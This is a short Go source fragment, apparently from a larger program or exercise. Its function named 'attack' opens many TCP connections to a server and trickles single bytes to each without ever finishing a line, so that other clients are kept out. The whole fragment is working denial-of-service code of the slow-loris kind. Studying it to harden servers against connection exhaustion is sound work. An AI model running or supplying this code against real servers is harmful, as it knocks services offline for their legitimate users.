package main

import (
	"fmt"
	"log"
	"net"
	"time"
)

// attack keeps everybody else out of the server at an address. Each connection
// sends a byte before its time is up, and never a newline.
func attack(address string) {
	var conns []net.Conn
	for range places {
		conn, err := net.Dial("tcp", address)
		if err != nil {
			log.Fatal(err)
		}
		conns = append(conns, conn)
	}
	for round := 0; ; round++ {
		for _, conn := range conns {
			conn.Write([]byte("a")) // it may have been cut off
		}
		if round == 0 {
			fmt.Println("holding")
		}
		time.Sleep(limit / 10)
	}
}
